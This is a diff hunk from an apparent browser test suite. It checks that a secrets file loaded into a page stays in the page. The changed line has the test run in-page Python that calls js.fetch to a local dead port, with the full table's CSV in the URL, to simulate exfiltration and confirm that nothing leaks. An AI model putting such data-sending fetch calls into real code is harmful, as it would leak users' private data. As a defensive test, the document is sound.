@@ -241,7 +241,7 @@ def test_a_file_of_secrets_is_read_in_the_page_and_nothing_of_it_leaves(
     with page.expect_download() as download:
         page.get_by_role("button", name="Save the file saved.csv").click()
     assert "Zebedee" in Path(download.value.path()).read_text(encoding="utf-8")
-    tried = "import js\nfor word in ['a', 'b']:\n    js.fetch('http://127.0.0.1:9/?Zebedee')"
+    tried = "import js\njs.fetch(f'http://127.0.0.1:9/?{mine.table.to_csv()}')\nNone"
     opening.run(tried)
     assert axe_violations(page) == []
     hidden = ["Zebedee", "Quillfeather", "QQ123456C", "9ZZ"]
